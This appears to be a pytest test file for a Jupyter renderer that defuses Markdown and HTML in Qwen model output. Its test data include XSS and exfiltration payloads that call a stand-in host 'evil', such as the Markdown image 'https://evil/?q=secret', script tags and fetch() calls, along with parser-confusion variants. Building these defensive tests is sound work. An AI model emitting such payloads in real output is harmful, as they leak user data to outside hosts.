"""Pure renderers: model output that cannot fetch or run anything, history, prompt, budget.

Where it matters what a browser would get, the Markdown is rendered with a real CommonMark
parser (markdown-it-py, with raw HTML on as Jupyter has it) and the HTML is read back.
"""

from __future__ import annotations

import random
from html.parser import HTMLParser

import pytest

from qwen_magic import render
from qwen_magic.conversation import Conversation, Turn
from qwen_magic.prompt import PromptPlan
from qwen_magic.render import (
    INTERRUPTED,
    budget_summary,
    history_markdown,
    render_prompt,
    render_reply,
    safe_markdown,
    status_markdown,
)

# What Markdown itself produces; anything else in the HTML came from the model's raw HTML.
MARKDOWN_TAGS = {
    "p", "a", "code", "pre", "em", "strong", "ul", "ol", "li", "blockquote", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.code: list[str] = []
        self._in_code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag == "code":
            self._in_code += 1
            self.code.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "code":
            self._in_code -= 1

    def handle_data(self, data: str) -> None:
        if self._in_code:
            self.code[-1] += data


def browser_view(markdown: str) -> _Reader:
    """The tags and the code texts a browser would get from ``markdown``."""
    markdown_it = pytest.importorskip("markdown_it")
    parser = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    reader = _Reader()
    reader.feed(parser.render(markdown))
    return reader


# ---------------------------------------------------------------------- safe_markdown

EXFILTRATION = "![x](https://evil/?q=secret)"

# Each fetches or runs something when rendered as it is (checked below).
ATTACKS = [
    EXFILTRATION,
    '<img src="https://evil/?q=secret">',
    "<IMG SRC=https://evil/>",
    "<script>fetch('https://evil/')</script>",
    "<video poster=https://evil/>",
    "<style>@import url(https://evil/)</style>",
    "Wow!![x](https://evil/)",
    "![a `]` b](https://evil/)",  # code inside the alt text
    "`![x](https://evil/)``",  # backtick runs of different lengths are no code span
    "\\`![x](https://evil/)`",  # an escaped backtick opens nothing
    "[a](`) ![x](https://evil/) `",  # the link took the backtick
    "<span title='`'>![x](https://evil/)`",
    "```a``\n![x](https://evil/)\n````",  # no fence: its info string has a backtick
    "- item\n\n  ```\n<img src=https://evil/>\n  ```",  # the list item ends the fence
    "<div>\n```\n<img src=https://evil/>\n```",  # inside an HTML block, not a fence
    "```\na\n```js\n<b>\n```\n<script>evil()</script>\n```",  # "```js" closes nothing
    "`a\n# b` `<script>x</script>` `",  # a heading ends the paragraph
    "| a | b |\n|---|---|\n| `x | <script>y</script>` |",  # cells split before code
    "<pre>\n\n```\n<img src=https://evil/>\n```\n</pre>",
]
# Harmless to CommonMark but not to JupyterLab, whose parser (marked) and math extraction read
# them otherwise; with what safe_markdown makes of them (checked against both by hand).
JUPYTERLAB_ATTACKS = [
    (  # marked reads "~`" as text
        "~`<script>x</script>`",
        "~<code>&#60;script&#62;x&#60;&#47;script&#62;</code>",
    ),
    (  # a bare URL runs on through the backtick
        "https://x.com/`<script>x</script>`",
        "https://x.com/<code>&#60;script&#62;x&#60;&#47;script&#62;</code>",
    ),
    (  # marked lets emphasis cut the code span
        "_a `b_ <script>x</script>`",
        "_a <code>b&#95; &#60;script&#62;x&#60;&#47;script&#62;</code>",
    ),
    (  # marked closes the fence on "```~", CommonMark does not: the fence becomes HTML
        "```\ncode\n```~\n<script>x</script>\n```",
        "<pre><code>code</code></pre>\n&lt;script>x&lt;/script>\n```\n```",
    ),
    (  # marked's link definition would run on over the fence
        "[a\n```\n]: /u\n<img src=https://evil/>\n```",
        "\\[a\n```\n]: /u\n<img src=https://evil/>\n```",
    ),
    (  # math that starts before a fence could take its first line: a blank line stops it
        "$a\n```\n$ <img src=https://evil/>\n```",
        "$a\n\n```\n$ <img src=https://evil/>\n```\n",
    ),
    (
        "\\begin{x}\n```\n\\end{x} <img src=https://evil/>\n```",
        "\\begin{x}\n\n```\n\\end{x} <img src=https://evil/>\n```\n",
    ),
    (  # marked reads a fence on the last line as paragraph text, info string and all
        "a\n```<img src=https://evil/>",
        "a\n```&lt;img src=https://evil/>\n```",
    ),
]
ACTIVE = ("<img", "<script", "![")


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_really_fetch_or_run_when_not_defused(attack: str) -> None:
    assert browser_view(attack).tags - MARKDOWN_TAGS


@pytest.mark.parametrize("attack", ATTACKS)
def test_images_and_html_outside_code_become_inert(attack: str) -> None:
    shown = safe_markdown(attack)
    assert not browser_view(shown).tags - MARKDOWN_TAGS, shown


@pytest.mark.parametrize(("attack", "shown"), JUPYTERLAB_ATTACKS)
def test_what_jupyterlab_reads_otherwise_is_defused_too(attack: str, shown: str) -> None:
    assert safe_markdown(attack) == shown
    assert not browser_view(shown).tags - MARKDOWN_TAGS


def test_an_image_becomes_a_link_the_user_may_click() -> None:
    shown = safe_markdown(f"See {EXFILTRATION} here.")
    assert shown == "See [🖼 x](https://evil/?q=secret) here."
    assert "a" in browser_view(shown).tags


def test_raw_html_shows_as_text() -> None:
    assert safe_markdown("a <img src=x> b</b>") == "a &lt;img src=x> b&lt;/b>"


@pytest.mark.parametrize(
    "text",
    [
        "Hello, world",
        "a < b and b > c, 2<3",
        "Qwen ends a turn with <|im_end|>.",
        "Use `print()` and `x[0]`.",
        "Use a bullet -",
        "Tabs\tand  two spaces  \nline",
        "$x^2$ and \\(y\\)",
    ],
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    "code",
    [
        f"```\n{EXFILTRATION}\n<img src=https://evil/>\n```",
        f"```html\n<script>run()</script>\n{EXFILTRATION}\n```",
        f"~~~\n{EXFILTRATION}\n<b>x</b>\n~~~",
        f"````md\n```\n{EXFILTRATION}\n```\n````",
        "1. Step one:\n   ```html\n   <b>bold</b>\n   ```\n2. Step two",
    ],
)
def test_code_blocks_are_left_exactly_as_they_are(code: str) -> None:
    text = f"Look:\n\n{code}\n\nDone."
    assert safe_markdown(text) == text


def test_inline_code_shows_exactly_what_the_model_wrote() -> None:
    text = f"Write `{EXFILTRATION}` or `<img src=x>` or ``a ` <b>``."
    shown = safe_markdown(text)
    assert "![" not in shown and "<img" not in shown
    assert browser_view(shown).code == [EXFILTRATION, "<img src=x>", "a ` <b>"]
    assert browser_view(text).code == browser_view(shown).code


def test_an_ambiguous_fence_becomes_an_inert_code_block() -> None:
    text = "```\n<b>x</b> $HOME\n```~\n<script>run()</script>\n```"
    shown = safe_markdown(text)
    assert shown.startswith("<pre><code>") and "<script" not in shown
    view = browser_view(shown)
    assert view.code[0] == "<b>x</b> $HOME"
    assert not view.tags - MARKDOWN_TAGS


def test_with_math_a_fence_is_set_apart_by_blank_lines() -> None:
    shown = safe_markdown("It costs $5:\n```sh\necho <in $HOME\n```\nok")
    assert shown == "It costs $5:\n\n```sh\necho <in $HOME\n```\n\nok"


def test_an_unclosed_fence_is_closed() -> None:
    """A streaming or interrupted reply must not turn what is shown after it into code."""
    assert safe_markdown("```python\nprint(1)") == "```python\nprint(1)\n```"
    conversation = Conversation(turns=[Turn("q", "```\nunfinished"), Turn("<b>", "a")])
    view = browser_view(history_markdown(conversation))
    assert view.code == ["unfinished\n"]
    assert not view.tags - MARKDOWN_TAGS


def test_windows_line_endings_do_not_hide_a_fence_end() -> None:
    shown = safe_markdown("```\r\nx\r\n```\r<script>run()</script>")
    assert "<script" not in shown


def test_a_line_that_could_open_a_link_definition_is_escaped() -> None:
    assert safe_markdown("[1]: https://example.com") == "\\[1]: https://example.com"
    assert safe_markdown("[1] is a citation") == "[1] is a citation"


def test_long_replies_stay_fast() -> None:
    text = "Some `code` and <b>tags</b> and ![i](u).\n\n```python\nx = a<b\n```\n" * 3000
    shown = safe_markdown(text)
    assert shown.count("```python\nx = a<b\n```") == 3000


# ---------------------------------------------------------------------- replies and history


def test_render_reply_defuses_the_markdown_but_not_the_plain_text() -> None:
    bundle = render_reply([EXFILTRATION], finish_reasons=["length"])
    assert "![" not in bundle["text/markdown"]
    assert bundle["text/markdown"].endswith(f"\n\n*{render.CUT_AT_MAX_TOKENS}*")
    assert bundle["text/plain"] == f"{EXFILTRATION}\n[{render.CUT_AT_MAX_TOKENS}]"
    several = render_reply([EXFILTRATION, "<img src=x>"], interrupted=True)
    assert "![" not in several["text/markdown"] and "<img" not in several["text/markdown"]
    assert several["text/markdown"].count(INTERRUPTED) == 2
    assert "&lt;img src=x&gt;" in several["text/html"]


def test_history_keeps_a_replys_trailing_dash_and_spaces() -> None:
    """It used to strip "Use a bullet -" to "Use a bullet"."""
    conversation = Conversation(turns=[Turn("q", "first  "), Turn("q2", "Use a bullet - ")])
    markdown = history_markdown(conversation)
    assert markdown.endswith("Use a bullet - \n")
    assert "\nfirst  \n" in markdown


def test_history_shows_every_part_defused() -> None:
    conversation = Conversation(
        system="Be <b>brief</b> ![s](https://evil/)",
        turns=[Turn(f"user {EXFILTRATION}", "<script>x</script>", interrupted=True)],
    )
    markdown = history_markdown(conversation, name="work")
    assert markdown.startswith("**Conversation `work`** · 1 turn(s)\n")
    assert "> **System:** Be &lt;b>brief&lt;/b> [🖼 s](https://evil/)" in markdown
    assert f"**1. Assistant** *{INTERRUPTED}*" in markdown
    assert not any(active in markdown for active in ACTIVE)
    assert "No turns yet" in history_markdown(Conversation())


def test_a_system_prompt_cannot_open_a_code_fence() -> None:
    conversation = Conversation(system="a\n```\n", turns=[Turn("q", "<b>")])
    assert not browser_view(history_markdown(conversation)).code


# ---------------------------------------------------------------------- prompt and budget


def plan(**changes: object) -> PromptPlan:
    fields: dict[str, object] = {
        "text": "t",
        "token_ids": list(range(1234)),
        "budget": 2048,
        "message": "m",
        "system": None,
        "turns": [object()],
        "dropped_turns": 0,
        "truncated": False,
        "system_tokens": 0,
        "turn_tokens": [10],
        "message_tokens": 5,
    }
    fields.update(changes)
    return PromptPlan(**fields)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("changes", "summary"),
    [
        ({}, "1,234 of 2,048 prompt tokens · 1 past turn sent"),
        ({"turns": []}, "1,234 of 2,048 prompt tokens · 0 past turns sent"),
        (
            {"turns": [1, 2], "dropped_turns": 3},
            "1,234 of 2,048 prompt tokens · 2 past turns sent · 3 oldest dropped to fit",
        ),
        (
            {"truncated": True, "turns": []},
            "1,234 of 2,048 prompt tokens · 0 past turns sent · message cut to fit",
        ),
    ],
)
def test_budget_summary_wording(changes: dict[str, object], summary: str) -> None:
    assert budget_summary(plan(**changes)) == summary


class _Tokenizer:
    im_start_id, im_end_id, endoftext_id = 1, 2, None

    def decode(self, ids: list[int]) -> str:
        return "".join({1: "<|im_start|>", 2: "<|im_end|>"}.get(i, "x") for i in ids)


def test_prompt_text_is_shown_verbatim_whatever_its_backticks() -> None:
    text = "<|im_start|>user\n````\n<script>x</script>\n`````<|im_end|>\n"
    bundle = render_prompt(text, [1, 5, 2], _Tokenizer(), sampling={"stop": ["|</s>"]})
    assert "``````text\n" in bundle["text/markdown"]  # longer than any run in the text
    view = browser_view(bundle["text/markdown"])
    assert view.code[0] == text + "\n"
    assert not view.tags - MARKDOWN_TAGS
    assert "| stop | ['&#124;&lt;/s>'] |" in bundle["text/markdown"]


def test_status_markdown() -> None:
    conversations = {"default": Conversation(turns=[Turn("q", "a")])}
    assert status_markdown(None, {}).startswith("**No model loaded.**")
    markdown = status_markdown({"model": "tiny"}, conversations)
    assert "| model | tiny |" in markdown and "- `default`: 1 turn(s)" in markdown


PIECES = [
    "`", "``", "```", "~~~", "\\", "[", "]", "(", ")", "!", "![x](https://e/)", "<img src=e>",
    "<b>", "</b>", "<pre>", "<!--", "-->", "\n", "\n\n", "  ", "    ", "\t", "- ", "1. ", "> ",
    "|", "|---|", "$", "\\begin{x}", "http://x/", "a", " ", "# ", "*", "_", "]:", "\n```\n",
    "\n  ```\n", "\n```~\n", "\r",
]  # fmt: skip


def test_random_markdown_never_yields_html_of_its_own() -> None:
    """Fragments that open and close code in every way, mixed; seeded, so a failure repeats."""
    rng = random.Random(0)
    for _ in range(2000):
        text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 40)))
        shown = safe_markdown(text)
        assert not browser_view(shown).tags - MARKDOWN_TAGS, (text, shown)
